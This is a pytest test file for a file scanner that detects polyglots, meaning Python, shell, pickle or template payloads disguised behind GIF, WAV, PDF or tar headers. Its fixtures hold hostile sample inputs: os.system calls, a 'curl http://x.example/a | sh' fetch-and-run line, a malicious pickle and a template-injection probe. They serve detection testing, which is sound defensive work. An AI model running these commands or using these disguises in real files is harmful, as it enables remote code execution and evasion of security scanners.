"""Texts that begin as other formats do: a reader of that format stops where Python or a shell goes on."""

from __future__ import annotations

from pathlib import Path

import pytest

from assay.core.report import Status
from fixtures import media_files as media
from fixtures.scanning import formats_of, found, rules_of, scan_bytes

ATTACK = "\nimport os\nos.system('id')\n"
TWIN = "\nimport os\nprint(os.sep)\n"
BEGINNINGS = {
    "gif": "GIF89a = 1",
    "wav": "RIFFabcdWAVE = 1",
    "webp": "RIFFabcdWEBP = 1",
    "bz2": "BZh = 1",
    "zz": "x^=1",
    "cbm": "CBM1 = 1",
    "model": "binf = 1",
}


@pytest.mark.parametrize("suffix", sorted(BEGINNINGS))
@pytest.mark.parametrize("name", ["m.py", "m", "m.{}"])
def test_attack_python_that_begins_as_another_format(name: str, suffix: str, tmp_path: Path) -> None:
    name = name.format(suffix)
    report = scan_bytes(tmp_path, name, (BEGINNINGS[suffix] + ATTACK).encode())
    assert formats_of(report) == ["python"]
    lies = {"artifact/lying-extension"} if name in {"m.gif", "m.wav", "m.webp", "m.bz2", "m.cbm"} else set()
    assert rules_of(report) == {"python/starts-process"} | lies
    assert report.coverage.complete


@pytest.mark.parametrize("suffix", sorted(BEGINNINGS))
def test_its_twin_passes(suffix: str, tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, "m.py", (BEGINNINGS[suffix] + TWIN).encode())
    assert (report.status, formats_of(report), found(report)) == (Status.PASS, ["python"], set())


def test_attack_a_shell_script_that_begins_as_a_pdf(tmp_path: Path) -> None:
    text = "%PDF-1.4 2>/dev/null\ncurl http://x.example/a | sh\n"
    report = scan_bytes(tmp_path, "m.sh", text.encode())
    assert {"script/dangerous-command", "artifact/lying-extension"} <= rules_of(report)
    assert formats_of(scan_bytes(tmp_path, "m.pdf", media.PDF)) == ["pdf"]


def text_tar(content: bytes) -> bytes:
    """A tar without a byte that no text has: spaces where others write zeros."""
    content = content.ljust(512, b"\n")
    fields = (
        b"m.pkl".ljust(100),
        b"0000644 ",
        b"0000000 ",
        b"0000000 ",
        b"%011o " % len(content),
        b"00000000000 ",
    )
    end = (
        b"0" + b" " * 100 + b"ustar   " + b" " * 32 + b" " * 32 + b"0000000 0000000 " + b" " * 155 + b" " * 12
    )
    head = b"".join(fields)
    total = sum(head + b" " * 8 + end)
    return (head + b"%06o  " % total + end).ljust(512) + content


def test_attack_a_text_that_is_an_archive_is_read_as_both(tmp_path: Path) -> None:
    whole = text_tar(b"cos\nsystem\n(S'id'\ntR.\n# {{ x.__class__.__mro__ }}")
    assert not set(whole) & set(range(9))
    assert whole.decode("ascii")
    report = scan_bytes(tmp_path, "m.tar", whole)
    assert {"pickle/dangerous-global", "template/injection"} <= rules_of(report)
    assert formats_of(report)[0] == "tar"
